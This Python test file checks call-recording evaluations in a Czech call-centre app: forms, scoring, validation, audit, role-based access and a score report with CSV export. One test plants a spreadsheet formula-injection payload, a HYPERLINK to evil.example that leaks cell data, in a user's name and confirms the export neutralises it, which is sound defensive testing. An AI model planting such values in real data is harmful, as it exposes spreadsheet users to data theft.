"""Evaluation of recorded calls in the browser (REC-07): forms administered like every configured
object, a supervisor scoring a recording on its page (validated: 422 naming the field, nothing
saved), audited creation and edits, an agent seeing only his own evaluations, and the score report
per agent over Prague days, also as CSV."""

from __future__ import annotations

import array
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from dependency_injector import providers

from apps.seed import DEMO_PASSWORD
from kc_adapters.recordings import FileRecordingStore
from kc_adapters.speech.audio import telephony_wav
from kc_adapters.system import FixedClock
from kc_domain.audit.model import Outcome
from kc_domain.audit.service import SYSTEM, AuditQuery
from kc_domain.identity.roles import Role
from kc_domain.recordings.evaluation import Criterion, Scale

pytestmark = pytest.mark.req("REC-07")

WAV = telephony_wav(array.array("h", [0]) * 8000)
NOW = datetime(2026, 11, 25, 9, 0, tzinfo=UTC)  # 10:00 in Prague
CRITERIA = (
    Criterion("Pozdrav a představení", Scale.POINTS, 5, 2, "Jméno, pojišťovna, nabídka pomoci"),
    Criterion("Ověření totožnosti", Scale.YES_NO, weight=3),
    Criterion("Nabídka dalších služeb", Scale.POINTS, 4, 1, required=False),
)


def user_id(container: Any, username: str) -> int:
    return next(u.id for u in container.admin().list("user") if u.username == username)


@pytest.fixture
def world(container: Any, tmp_path: Path) -> dict[str, int]:
    """Two recordings of Nováková's calls (120 s and 60 s), one of Horák's, an active form."""
    container.recording_store.override(providers.Object(FileRecordingStore(tmp_path / "recordings")))
    clock = FixedClock(NOW)
    container.clock.override(providers.Object(clock))
    novakova, horak = user_id(container, "novakova"), user_id(container, "horak")
    service = container.recordings()
    started = NOW - timedelta(hours=2)
    form = container.admin().create(
        SYSTEM, "evaluation_form", {"name": "Kvalita hovoru", "criteria": CRITERIA}
    )
    return {
        "r1": service.receive("c1", novakova, started, 120, WAV).id,
        "r2": service.receive("c2", novakova, started + timedelta(minutes=5), 60, WAV).id,
        "r3": service.receive("c3", horak, started + timedelta(minutes=9), 90, WAV).id,
        "form": form.id,
        "novakova": novakova,
        "horak": horak,
    }


def signed_in(client: Any, username: str) -> Any:
    assert client.login(username).status_code == 302
    return client


def sheet(form_id: int, /, **fields: Any) -> dict[str, Any]:
    data: dict[str, Any] = {
        "form_id": str(form_id),
        f"f{form_id}_score_1": "4",
        f"f{form_id}_comment_1": "Chybělo jméno pojišťovny",
        f"f{form_id}_score_2": "1",
        f"f{form_id}_score_3": "",
        "note_offset": ["12.5", "95"],
        "note_text": ["Pěkný pozdrav", "Skočila klientovi do řeči"],
        "comment": "Celkově dobrý hovor.",
    }
    data.update(fields)
    return data


def stored(container: Any) -> list[Any]:
    with container.uow_factory()() as uow:
        return uow.evaluations.list()


def audit_of(container: Any, prefix: str) -> list[Any]:
    return container.audit().search(container.uow_factory(), AuditQuery(action=prefix), 100)


def text(response: Any) -> str:
    return str(response.get_data(as_text=True))


# -- forms ------------------------------------------------------------------------------------------
def test_supervisor_creates_edits_and_deletes_an_evaluation_form_in_the_administration(client, container):
    signed_in(client, "supervizor")
    assert "/admin/evaluation_form/" in text(client.get("/admin/"))

    created = client.post(
        "/admin/evaluation_form/new",
        {
            "name": "Reklamace",
            "criterion_label": ["Pozdrav", "Ověření", ""],
            "criterion_scale": ["points", "yes_no", "points"],
            "criterion_max_points": ["5", "1", "5"],
            "criterion_weight": ["2", "3", "1"],
            "criterion_required": ["yes", "no", "yes"],
            "criterion_description": ["Představení", "", ""],
            "active": "on",
        },
    )

    assert created.status_code == 302
    (form,) = [f for f in container.admin().list("evaluation_form") if f.name == "Reklamace"]
    assert form.criteria == (
        Criterion("Pozdrav", Scale.POINTS, 5, 2, "Představení"),
        Criterion("Ověření", Scale.YES_NO, 1, 3, required=False),
    )
    assert audit_of(container, "evaluation_form.create")
    listing = text(client.get("/admin/evaluation_form/"))
    assert "Formuláře hodnocení" in listing and "Reklamace" in listing
    edit_page = text(client.get(f"/admin/evaluation_form/{form.id}"))
    assert 'value="Pozdrav"' in edit_page and 'value="Ověření"' in edit_page

    changed = client.post(
        f"/admin/evaluation_form/{form.id}",
        {
            "name": "Reklamace",
            "criterion_label": ["Pozdrav", ""],
            "criterion_scale": ["points", "points"],
            "criterion_max_points": ["3", "5"],
            "criterion_weight": ["1", "1"],
            "criterion_required": ["yes", "yes"],
            "criterion_description": ["", ""],
        },
    )
    assert changed.status_code == 302
    form = container.admin().get("evaluation_form", form.id)
    assert (form.criteria, form.active) == ((Criterion("Pozdrav", Scale.POINTS, 3, 1),), False)

    assert client.post(f"/admin/evaluation_form/{form.id}/delete").status_code == 302
    assert "Reklamace" not in [f.name for f in container.admin().list("evaluation_form")]


def criteria_form(name: str, max_points: list[str], weights: list[str]) -> dict[str, Any]:
    return {
        "name": name,
        "criterion_label": ["Pozdrav", "Ověření"],
        "criterion_scale": ["points", "points"],
        "criterion_max_points": max_points,
        "criterion_weight": weights,
        "criterion_required": ["yes", "yes"],
        "criterion_description": ["", ""],
    }


def test_a_bad_criterion_is_explained_on_its_row_and_nothing_is_saved(client, container):
    signed_in(client, "supervizor")

    page = client.post("/admin/evaluation_form/new", criteria_form("Špatný", ["0", "5"], ["2", "101"]))
    not_a_number = client.post("/admin/evaluation_form/new", criteria_form("Špatný", ["5", "x"], ["2", "1"]))

    assert page.status_code == not_a_number.status_code == 422
    rows = re.findall(r'<tr id="criterion-(\d)">(.*?)</tr>', text(page), re.S)
    assert "Musí být mezi 1 a 100." in rows[0][1]  # row 1: max points 0
    assert "Musí být mezi 1 a 100." in rows[1][1]  # row 2: weight 101
    assert 'value="101"' in rows[1][1]  # what was typed stays
    assert "Musí být celé číslo." in text(not_a_number)
    assert "Špatný" not in [f.name for f in container.admin().list("evaluation_form")]


def test_a_form_without_criteria_is_refused(client, container):
    signed_in(client, "supervizor")

    page = client.post("/admin/evaluation_form/new", {"name": "Prázdný"})

    assert page.status_code == 422
    assert "Zadejte alespoň jedno kritérium." in text(page)


def test_forms_through_the_json_api(client, container):
    signed_in(client, "admin")

    created = client.api(
        "POST",
        "/api/v1/evaluation_form",
        {"name": "API", "criteria": [{"label": "Pozdrav", "scale": "points", "max_points": 4, "weight": 2}]},
    )
    assert created.status_code == 201, created.get_json()
    assert created.get_json()["criteria"] == [
        {
            "label": "Pozdrav",
            "scale": "points",
            "max_points": 4,
            "weight": 2,
            "description": "",
            "required": True,
        }
    ]
    refused = client.api("POST", "/api/v1/evaluation_form", {"name": "API 2", "criteria": [{"weight": 2}]})
    assert refused.status_code == 422
    assert {e["field"] for e in refused.get_json()["errors"]} == {"criteria.1.label"}


def test_agents_may_not_manage_forms(client, world):
    signed_in(client, "novakova")

    assert client.get("/admin/evaluation_form/").status_code == 403


# -- evaluating on the recording page --------------------------------------------------------------------
def test_supervisor_sees_the_sheet_and_timeline_under_the_player(client, world):
    signed_in(client, "supervizor")

    page = text(client.get(f"/recordings/{world['r1']}"))

    assert 'id="timeline"' in page and 'data-duration="120.0"' in page
    assert 'id="evaluation-form"' in page
    assert "Pozdrav a představení" in page and "Ověření totožnosti" in page
    assert "Zatím nehodnoceno." in page


def test_a_listener_without_the_evaluation_right_sees_no_sheet(client, world):
    signed_in(client, "nahravky")

    page = text(client.get(f"/recordings/{world['r1']}"))

    assert 'id="player"' in page
    assert 'id="evaluation-form"' not in page and 'id="timeline"' not in page


def test_supervisor_saves_an_evaluation_and_it_is_audited(client, container, world):
    signed_in(client, "supervizor")

    response = client.post(f"/recordings/{world['r1']}/evaluations", sheet(world["form"]))

    assert response.status_code == 302
    (evaluation,) = stored(container)
    assert (evaluation.recording_id, evaluation.agent_id) == (world["r1"], world["novakova"])
    assert evaluation.evaluator_name == "Petr Svoboda"
    assert [s.points for s in evaluation.scores] == [4, 1, None]
    assert [(n.offset_s, n.text) for n in evaluation.notes] == [
        (12.5, "Pěkný pozdrav"),
        (95.0, "Skočila klientovi do řeči"),
    ]
    assert evaluation.score_percent == 92.0
    (record,) = audit_of(container, "evaluation.create")
    assert (record.actor, record.object_id) == ("supervizor", str(evaluation.id))
    page = text(client.get(f"/recordings/{world['r1']}"))
    assert f'id="evaluation-{evaluation.id}"' in page and "92,0" in page


@pytest.mark.parametrize(
    ("changes", "field", "message"),
    [
        ({"form_id": "999"}, "form_id", "Formulář hodnocení: Vyberte aktivní formulář hodnocení."),
        ({"form_id": "abc"}, "form_id", "Formulář hodnocení: Vyberte aktivní formulář hodnocení."),
        (
            {"f{form}_score_1": "6"},
            "score.1",
            "Kritérium 1 „Pozdrav a představení“: Musí být mezi 0 a 5.",
        ),
        ({"f{form}_score_2": "2"}, "score.2", "Kritérium 2 „Ověření totožnosti“: Musí být mezi 0 a 1."),
        ({"f{form}_score_1": ""}, "score.1", "Kritérium 1 „Pozdrav a představení“: Toto pole je povinné."),
        (
            {"note_offset": ["121"], "note_text": ["Po konci"]},
            "note.1.offset",
            "Poznámka 1: okamžik: Okamžik 121.0 s je mimo nahrávku (0 až 120.0 s).",
        ),
        (
            {"note_offset": ["10"], "note_text": [""]},
            "note.1.text",
            "Poznámka 1: text: Toto pole je povinné.",
        ),
    ],
)
def test_bad_input_is_refused_with_422_naming_the_field_and_nothing_is_saved(
    client, container, world, changes, field, message
):
    signed_in(client, "supervizor")
    data = sheet(world["form"], **{k.format(form=world["form"]): v for k, v in changes.items()})

    response = client.post(f"/recordings/{world['r1']}/evaluations", data)

    assert response.status_code == 422
    body = text(response)
    assert f'data-field="{field}"' in body
    assert message in body
    assert stored(container) == []
    assert [r.outcome.value for r in audit_of(container, "evaluation.create")] == ["rejected"]


def test_a_refused_sheet_keeps_what_was_typed(client, world):
    signed_in(client, "supervizor")
    data = sheet(world["form"], note_offset=["200"], note_text=["Moc pozdě"])

    body = text(client.post(f"/recordings/{world['r1']}/evaluations", data))

    assert 'value="Chybělo jméno pojišťovny"' in body
    assert 'value="Moc pozdě"' in body and 'value="200"' in body
    assert "Celkově dobrý hovor." in body


def test_supervisor_edits_an_evaluation_and_the_change_is_audited(client, container, world):
    signed_in(client, "supervizor")
    client.post(f"/recordings/{world['r1']}/evaluations", sheet(world["form"]))
    (evaluation,) = stored(container)

    edit_page = text(client.get(f"/recordings/{world['r1']}?evaluation={evaluation.id}"))
    assert 'name="edit_score_1" value="4" checked' in edit_page
    response = client.post(
        f"/recordings/{world['r1']}/evaluations/{evaluation.id}",
        {"edit_score_1": "5", "edit_score_2": "0", "edit_score_3": "", "comment": "Neověřila klienta."},
    )

    assert response.status_code == 302
    (changed,) = stored(container)
    assert (changed.score_percent, changed.comment, changed.notes) == (40.0, "Neověřila klienta.", ())
    (record,) = audit_of(container, "evaluation.update")
    assert (
        record.params["before"]["score_percent"] == 92.0 and record.params["after"]["score_percent"] == 40.0
    )


def test_an_evaluation_is_edited_only_on_its_own_recording(client, container, world):
    signed_in(client, "supervizor")
    client.post(f"/recordings/{world['r1']}/evaluations", sheet(world["form"]))
    (evaluation,) = stored(container)

    assert client.get(f"/recordings/{world['r2']}?evaluation={evaluation.id}").status_code == 404
    assert client.post(f"/recordings/{world['r2']}/evaluations/{evaluation.id}", {}).status_code == 404


@pytest.mark.req("GEN-01", "SEC-03")
def test_only_the_author_edits_an_evaluation(client, container, world):
    """Issue 16 #15: another supervisor rewrote an evaluation that still showed as the first one's."""
    container.admin().create(
        SYSTEM,
        "user",
        {
            "username": "vedouci2",
            "full_name": "Jana Druhá",
            "roles": {Role.SUPERVISOR, Role.LISTEN_RECORDING},
        },
        password=DEMO_PASSWORD,
    )
    signed_in(client, "supervizor")
    client.post(f"/recordings/{world['r1']}/evaluations", sheet(world["form"]))
    (evaluation,) = stored(container)

    signed_in(client, "vedouci2")
    page = text(client.get(f"/recordings/{world['r1']}"))
    assert f"edit-evaluation-{evaluation.id}" not in page  # no edit link for another's evaluation
    assert client.get(f"/recordings/{world['r1']}?evaluation={evaluation.id}").status_code == 403
    response = client.post(
        f"/recordings/{world['r1']}/evaluations/{evaluation.id}",
        {"edit_score_1": "0", "edit_score_2": "0", "edit_score_3": "", "comment": "Přepsáno."},
    )

    assert response.status_code == 403
    (kept,) = stored(container)
    assert (kept.score_percent, kept.comment) == (evaluation.score_percent, evaluation.comment)
    (refused,) = audit_of(container, "evaluation.update")
    assert refused.actor == "vedouci2" and refused.outcome == Outcome.REJECTED
    signed_in(client, "supervizor")
    assert f"edit-evaluation-{evaluation.id}" in text(client.get(f"/recordings/{world['r1']}"))


def test_an_agent_may_not_evaluate(client, container, world):
    signed_in(client, "novakova")

    assert client.post(f"/recordings/{world['r1']}/evaluations", sheet(world["form"])).status_code == 403
    assert stored(container) == []


# -- the agent's evaluations -----------------------------------------------------------------------------
def evaluate_all(client: Any, world: dict[str, int]) -> None:
    signed_in(client, "supervizor")
    for recording, first in (("r1", "4"), ("r2", "5"), ("r3", "1")):
        data = sheet(
            world["form"], **{f"f{world['form']}_score_1": first}, note_offset=["12"], note_text=["Tady"]
        )
        assert client.post(f"/recordings/{world[recording]}/evaluations", data).status_code == 302
    client.post("/logout")


def test_an_agent_sees_only_his_own_evaluations_with_notes_and_no_listen_link(client, container, world):
    evaluate_all(client, world)
    signed_in(client, "novakova")

    page = text(client.get("/evaluations/"))

    sections = re.findall(r'<section class="card" id="evaluation-(\d+)"', page)
    mine = {str(e.id) for e in stored(container) if e.agent_id == world["novakova"]}
    assert set(sections) == mine and len(mine) == 2
    assert "Kvalita hovoru" in page and "Petr Svoboda" in page and "Tady" in page
    assert "Chybělo jméno pojišťovny" in page and "Celkově dobrý hovor." in page
    assert "/recordings/" not in page  # no right to listen: no link to the recording
    assert 'id="evaluation-agent"' not in page  # no agent filter for an agent


def test_an_agent_asking_for_another_agents_evaluations_gets_403_and_it_is_audited(client, container, world):
    evaluate_all(client, world)
    signed_in(client, "horak")

    assert client.get(f"/evaluations/?agent={world['novakova']}").status_code == 403
    denied = audit_of(container, "access.denied")
    assert denied and denied[0].actor == "horak"
    page = text(client.get("/evaluations/"))
    assert len(re.findall(r'<section class="card" id="evaluation-', page)) == 1


def test_an_agent_with_the_listen_right_gets_links_to_the_moments(client, container, world):
    evaluate_all(client, world)
    with container.uow_factory()() as uow:
        horak = uow.users.get(world["horak"])
        horak.roles = frozenset({*horak.roles, Role.LISTEN_RECORDING})
        uow.commit()
    signed_in(client, "horak")

    page = text(client.get("/evaluations/"))

    assert f'href="/recordings/{world["r3"]}#t=12.0"' in page


def test_a_supervisor_sees_everybody_and_filters_by_agent(client, container, world):
    evaluate_all(client, world)
    signed_in(client, "supervizor")

    everybody = text(client.get("/evaluations/"))
    only_horak = text(client.get(f"/evaluations/?agent={world['horak']}"))

    assert len(re.findall(r'<section class="card" id="evaluation-', everybody)) == 3
    assert len(re.findall(r'<section class="card" id="evaluation-', only_horak)) == 1
    assert "Tomáš Horák" in only_horak


def test_the_list_pages_fifty_at_a_time(client, container, world, monkeypatch):
    from apps.web import evaluations

    monkeypatch.setattr(evaluations, "PER_PAGE", 2)
    evaluate_all(client, world)
    signed_in(client, "supervizor")

    first = text(client.get("/evaluations/"))
    second = text(client.get("/evaluations/?page=2"))

    cards = r'<section class="card" id="evaluation-(\d+)"'
    assert len(re.findall(cards, first)) == 2
    assert 'id="page-next"' in first and "page-previous" not in first
    assert len(re.findall(cards, second)) == 1
    assert 'id="page-previous"' in second and "page-next" not in second
    assert set(re.findall(cards, first)).isdisjoint(re.findall(cards, second))
    assert client.get("/evaluations/?page=x").status_code == 422


def test_a_bad_period_is_explained(client, world):
    signed_in(client, "novakova")

    response = client.get("/evaluations/?since=2026-13-01")

    assert response.status_code == 422
    assert "není datum" in text(response)


# -- the score report ------------------------------------------------------------------------------------
def test_the_report_gives_count_average_lowest_and_highest_per_agent(client, world):
    evaluate_all(client, world)
    signed_in(client, "supervizor")

    page = text(client.get("/evaluations/report"))

    # Nováková: greeting 4 and 5 of 5 (weight 2), identity yes (3): 92.0 and 100.0
    row = re.search(rf'<tr id="agent-{world["novakova"]}">(.*?)</tr>', page, re.S)
    assert row is not None
    cells = re.findall(r"<td[^>]*>(.*?)</td>", row.group(1), re.S)
    assert cells[1:] == ["2", "96,0", "92,0", "100,0"]
    horak = re.search(rf'<tr id="agent-{world["horak"]}">(.*?)</tr>', page, re.S)
    assert horak is not None and ">1</td>" in horak.group(1)


def test_the_report_as_csv(client, world):
    evaluate_all(client, world)
    signed_in(client, "supervizor")

    response = client.get("/evaluations/report.csv?since=2026-11-01&until=2026-11-30")

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    lines = response.get_data(as_text=True).lstrip("\ufeff").splitlines()
    assert lines[0] == "Operátor;Hodnocení;Průměrné skóre (%);Nejnižší (%);Nejvyšší (%)"
    assert "Marie Nováková;2;96.0;92.0;100.0" in lines


def test_the_report_counts_prague_days(client, container, world):
    signed_in(client, "supervizor")
    clock = container.clock()
    clock.at = datetime(2026, 11, 30, 23, 30, tzinfo=UTC)  # 1 December 00:30 in Prague
    client.post(f"/recordings/{world['r1']}/evaluations", sheet(world["form"]))

    november = text(client.get("/evaluations/report?since=2026-11-01&until=2026-11-30"))
    december = text(client.get("/evaluations/report?since=2026-12-01&until=2026-12-01"))

    assert f'id="agent-{world["novakova"]}"' not in november
    assert f'id="agent-{world["novakova"]}"' in december


@pytest.mark.req("REP-05")
def test_the_report_csv_never_writes_a_formula(client, container, world):
    payload = '=HYPERLINK("http://evil.example/?x="&A2,"Klikni")'
    with container.uow_factory()() as uow:
        user = uow.users.get(world["novakova"])
        user.full_name = payload
        uow.commit()
    evaluate_all(client, world)
    signed_in(client, "supervizor")

    response = client.get("/evaluations/report.csv?since=2026-11-01&until=2026-11-30")

    lines = response.get_data(as_text=True).lstrip("\ufeff").splitlines()
    assert any(line.startswith("\"'=HYPERLINK(") for line in lines)
    assert not any(line.startswith(("=", '"=')) for line in lines)


def test_the_report_is_for_evaluators_only(client, world):
    signed_in(client, "novakova")

    assert client.get("/evaluations/report").status_code == 403
    assert client.get("/evaluations/report.csv").status_code == 403


def test_the_evaluations_and_the_report_in_json(client, container, world):
    evaluate_all(client, world)
    signed_in(client, "novakova")
    mine = client.api("GET", "/api/v1/evaluations").get_json()
    assert {e["agent_id"] for e in mine["items"]} == {world["novakova"]} and len(mine["items"]) == 2
    assert mine["page"] == 1 and mine["more"] is False
    first = mine["items"][0]
    assert first["notes"] == [{"offset_s": 12.0, "text": "Tady"}] and first["created_at"].endswith("+00:00")
    assert first["scores"][0]["criterion"]["label"] == "Pozdrav a představení"
    assert client.api("GET", f"/api/v1/evaluations?agent={world['horak']}").status_code == 403
    assert client.api("GET", "/api/v1/evaluations/report").status_code == 403
    bad = client.api("GET", "/api/v1/evaluations?since=2026-13-01")
    assert bad.status_code == 422 and "since" in bad.get_data(as_text=True)
    client.post("/logout")

    signed_in(client, "supervizor")
    report = client.api("GET", "/api/v1/evaluations/report").get_json()
    scores = {a["agent_id"]: (a["count"], a["average"]) for a in report["agents"]}
    assert scores[world["novakova"]] == (2, 96.0)
